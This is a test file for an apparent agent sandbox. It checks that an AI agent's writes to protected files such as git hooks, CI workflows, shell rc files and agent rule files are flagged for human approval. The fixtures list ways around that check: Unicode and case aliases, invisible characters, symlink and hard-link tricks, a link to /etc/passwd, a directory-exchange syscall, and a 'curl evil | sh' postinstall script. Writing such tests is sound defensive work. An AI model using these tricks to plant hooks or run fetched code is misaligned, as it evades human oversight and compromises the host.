// T12 T15: what would later run on the host is flagged under every alias and by every way to its name, and no bulk word
// approves it.
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeWorld, type Pending, USERS, type World } from '../world.ts';

const WAYS_TIMEOUT_MS = 90_000;

type Item = Pending & { readonly protected: boolean };

/** One of each kind of name; directories get a file inside. */
const PROTECTED = (
  '.gitattributes .gitmodules .gitconfig .githooks/pre-commit .agentsh/policy.toml .envrc .profile .bashrc .zshenv ' +
  '.inputrc .ssh/config .husky/pre-commit .pre-commit-config.yaml lefthook.yml .github/workflows/ci.yml ' +
  '.github/actions/a/action.yml .gitlab-ci.yml .circleci/config.yml Jenkinsfile .vscode/tasks.json .idea/workspace.xml ' +
  '.devcontainer/devcontainer.json a.code-workspace .exrc .nvim.lua .dir-locals.el .claude/settings.json .mcp.json ' +
  'CLAUDE.md AGENTS.md GEMINI.md .codex/config.toml .cursor/mcp.json .cursorrules .windsurfrules .aider.conf.yml ' +
  '.github/copilot-instructions.md .npmrc .yarnrc.yml .pnpmfile.cjs .cargo/config.toml .cargo/config bunfig.toml ' +
  'mise.toml .tool-versions conftest.py a.pth sitecustomize.py .config/fish/config.fish .config/git/config .hg/hgrc ' +
  'deep/er/.envrc deep/.husky/x'
).split(' ');
/** Names that some file system or checkout takes for a protected one. */
const ALIASES = [
  '.ENVRC',
  '.EnvRc',
  'claude.MD',
  '.Npmrc',
  'JENKINSFILE',
  'Conftest.Py',
  '.VSCode/tasks.json',
  '.GITHUB/WorkFlows/ci.yml',
  '.envrc ',
  '.envrc.',
  '.env\u200crc',
  '.\u2062npmrc',
  '\uff0eenvrc',
  '.\uff47itmodules',
  '.gitmodules\u200f',
  '.\u017fsh/config',
];

describe.each(USERS)('as %s', (user) => {
  let world: World;
  const place = (name: string) => path.join(world.workspace, name);
  const pending = async () => (await world.pending()) as Item[];
  const atPath = (items: readonly Item[], name: string) =>
    items.find((each) => each.path === Buffer.from(place(name), 'utf8').toString('latin1'));
  beforeAll(() => {
    world = makeWorld({ user });
    const host = {
      'github/workflows/ci.yml': 'ci',
      'cargo/config.toml': '[build]',
      '.old/workflows/x': 'x',
      '.husky/pre-push': 'old hook',
      'scripts.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
      'links/deep/er/link-file': '',
      'bare/HEAD': 'ref: refs/heads/main',
      'bare/config': '[core]',
    };
    for (const [name, text] of Object.entries(host)) world.write(name, text);
    symlinkSync('../../x', place('links/deep/er/up'));
    mkdirSync(place('package'));
    writeFileSync(place('package/package.json'), '{"scripts":{"test":"true"}}');
    world.own(world.workspace);
  });
  afterAll(() => world.end());

  test('T15 each name is flagged where it is new, below new directories too', async () => {
    const create = PROTECTED.map((name) => `mkdir -p "$(dirname '${name}')"; echo x > '${name}'`).join('\n');
    await world.inside(create, ['-n', 'names']);
    const items = (await pending()).filter(({ agent }) => agent.endsWith(':names'));
    const bare = items.filter((each) => !each.protected).map((each) => path.relative(world.workspace, each.path));
    expect(bare).toEqual([]);
    expect(items.length).toBeGreaterThan(40);
  });

  test('T15 all, a pattern, a set and the command’s --all leave them out, and say so', async () => {
    const pattern = `cat /.kernel/pending/index > /dev/null; echo all > /.kernel/approve; echo '${world.workspace}/*' > /.kernel/approve; echo '${world.workspace}/**' > /.kernel/approve`;
    await world.operator(pattern);
    const set = (await world.operator('head -n 1 /.kernel/pending/index')).stdout.split(' ')[1]?.trim() ?? '';
    await world.operator(`echo "set ${set}" > /.kernel/approve`);
    await world.agentsh(['approve', '--all', '--set', set]);
    for (const name of PROTECTED.filter((each) => each !== '.husky/pre-commit' && !each.startsWith('deep')))
      expect([name, existsSync(place(name))]).toEqual([name, false]);
    const one = atPath(await pending(), '.envrc');
    expect(await world.agentsh(['approve', one?.id ?? ''])).toMatchObject({ code: 0 });
    expect(readFileSync(place('.envrc'), 'utf8')).toBe('x\n');
  });

  test('T12 an alias of case, Unicode form, invisible characters or a dropped ending is the same name', async () => {
    const create = ALIASES.map((name) => `mkdir -p "$(dirname '${name}')"; echo x > '${name}'`).join('\n');
    await world.inside(create, ['-n', 'aliases']);
    const items = (await pending()).filter(({ agent }) => agent.endsWith(':aliases'));
    expect(items.filter((each) => !each.protected).map((each) => each.path)).toEqual([]);
    expect(items.length).toBe(new Set(ALIASES.map((name) => name.split('/')[0])).size);
  });

  /** What the agent does, and the entry that has to be flagged. */
  const WAYS: Readonly<Record<string, readonly [text: string, entry: string]>> = {
    'a directory of the host’s renamed': ['mv github .github', '.github'],
    'a directory renamed away': ['mv .husky husky', 'husky'],
    'a link in the place of a directory': ['ln -s cargo .cargo', '.cargo'],
    'a link for a link': ['ln -s .old .GitHub', '.GitHub'],
    'a link that leaves the workspace': ['ln -s ../../etc/passwd out', 'out'],
    'a link that leaves it, inside a new directory': ['mkdir -p new/d; ln -s /etc/passwd new/d/l', 'new'],
    'a link that leaves it once its directory has moved': ['mv links/deep/er er', 'er'],
    'a repository inside a new directory': [
      'mkdir -p r/x/objects r/x/refs; echo ref: refs/heads/main > r/x/HEAD; echo "[core]" > r/x/config',
      'r',
    ],
    'the last part of a repository whose others have landed': ['mkdir bare/objects', 'bare/objects'],
    'scripts in a package of a new directory': [
      `mkdir pkg; echo '{"scripts":{"postinstall":"x"}}' > pkg/package.json`,
      'pkg',
    ],
    'a file of the host’s renamed to package.json': ['mv scripts.json package.json', 'package.json'],
    'the manifest by another case': [`echo '{"scripts":{"install":"x"}}' > Package.JSON`, 'Package.JSON'],
    'a package that takes another’s place': ['mv package packaged', 'packaged'],
    'a hard link to a protected name': ['ln cargo/config.toml .npmrc', '.npmrc'],
    'a directory exchanged': [
      `python3 -c "import ctypes; ctypes.CDLL(None).syscall(316 if __import__('os').uname().machine == 'x86_64' else 276, -100, b'.old', -100, b'.github', 2)" || true; mkdir -p .github; mv .old/workflows .github/workflows`,
      '.github/workflows',
    ],
    'a mode change': ['chmod 755 .husky/pre-push', '.husky/pre-push'],
    'a removal': ['rm .husky/pre-push', '.husky/pre-push'],
  };
  test(
    'T15 every other way to such a name is flagged too',
    async () => {
      const ways = Object.entries(WAYS);
      for (const [at, [, [text]]] of ways.entries()) await world.inside(text, ['-n', `way${at}`]);
      const listed = await pending();
      const outcomes = ways.map(([way, [, entry]], at) => {
        const items = listed.filter(({ agent }) => agent.endsWith(`:way${at}`));
        const found = atPath(items, entry) ?? items.find((each) => place(entry).startsWith(`${each.path}/`));
        return [way, found === undefined ? items.map((each) => each.path) : found.protected];
      });
      expect(outcomes).toEqual(ways.map(([way]) => [way, true]));
    },
    WAYS_TIMEOUT_MS,
  );
});
